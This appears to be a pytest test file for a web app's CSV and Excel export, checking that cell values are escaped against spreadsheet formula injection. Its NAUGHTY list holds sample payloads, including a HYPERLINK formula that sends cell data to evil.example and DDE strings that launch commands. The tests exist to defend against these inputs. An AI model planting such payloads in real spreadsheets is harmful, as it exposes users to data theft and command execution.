"""Files that spreadsheets open: whatever a cell says, it stays words."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet._writer import ALL_TEMP_FILES

from hub.staff import exporting
from hub.staff.exporting import (
    TooManyRows,
    csv_response,
    plain_cell,
    safe_cell,
    xlsx_response,
)

NAUGHTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1-212-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    '","=1+1',
    "'=1+1",
    "''=1+1",
    "\x01=1+1",
    "Zo\u00eb, \u65e5\u672c \U0001f6d2",
    "",
    "'",
    "a\r\nb",
    "x" * 40_000,
]
SIGNS = "=+-@\t\r\n\0＝＋－＠"
texts = st.text() | st.sampled_from(NAUGHTY) | st.text(alphabet="'=+-@ \t\r\n\0,;\"a", max_size=8)


def read_csv(reply) -> list[list[str]]:
    body = b"".join(reply).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body, newline=""), strict=True))


@given(texts)
def test_no_text_begins_like_a_formula_and_each_comes_back(text):
    cell = safe_cell(text)

    assert isinstance(cell, str)
    assert not cell.lstrip("".join(map(chr, range(33))) + "\ufeff\u200b\u00a0").startswith(
        tuple(SIGNS)
    )
    assert cell[:1] not in set(SIGNS)
    assert plain_cell(cell) == text


@given(st.lists(st.lists(texts, min_size=2, max_size=2), max_size=5))
def test_a_csv_file_is_read_as_what_was_written(rows):
    reply = csv_response("parts", ["one", "two"], rows)

    wanted = [
        [str(safe_cell(text)).encode("utf-8", "replace").decode() for text in row] for row in rows
    ]
    assert read_csv(reply) == [["one", "two"], *wanted]


def test_a_csv_file_says_that_it_is_a_download_in_utf8():
    reply = csv_response("Stück", ["a"], [[1]])

    assert reply["Content-Disposition"] == "attachment; filename*=utf-8''St%C3%BCck.csv"
    assert reply["Cache-Control"] == "no-store"
    assert b"".join(reply) == b"\xef\xbb\xbfa\r\n1\r\n"


def test_many_rows_leave_while_the_later_ones_are_not_read_yet():
    read = []

    def rows():
        for number in range(2000):
            read.append(number)
            yield [number]

    sent = iter(csv_response("many", ["n"], rows()))
    next(sent)
    next(sent)

    assert len(read) < 600


def test_a_sheet_holds_naughty_words_as_words():
    reply = xlsx_response("naughty: words/*", ["text"], [[text] for text in NAUGHTY])

    sheet = load_workbook(io.BytesIO(b"".join(reply))).active
    kinds = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
    assert kinds <= {"s", "inlineStr", "n"}  # n: an empty cell; never f
    assert sheet["A2"].value == "'" + NAUGHTY[0]
    assert sheet.max_row == len(NAUGHTY) + 1


def test_numbers_and_days_stay_what_they_are():
    row = [-5, 2.5, Decimal("-1.10"), date(2026, 1, 2), True, None, float("nan")]

    sheet = load_workbook(io.BytesIO(b"".join(xlsx_response("n", ["a"], [row])))).active

    values = [cell.value for cell in sheet[2]]
    assert values[:3] == [-5, 2.5, -1.1]
    assert values[3] == datetime(2026, 1, 2)
    assert values[4] == "True"


def test_a_moment_is_told_with_its_zone():
    moment = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)

    assert safe_cell(moment) == "2026-01-02T03:04:00+00:00"


def test_a_sheet_that_would_be_too_long_is_refused(monkeypatch):
    monkeypatch.setattr(exporting, "MOST_ROWS", 2)

    before = list(ALL_TEMP_FILES)
    with pytest.raises(TooManyRows, match="take CSV"):
        xlsx_response("long", ["n"], [[1], [2], [3]])

    assert before == ALL_TEMP_FILES
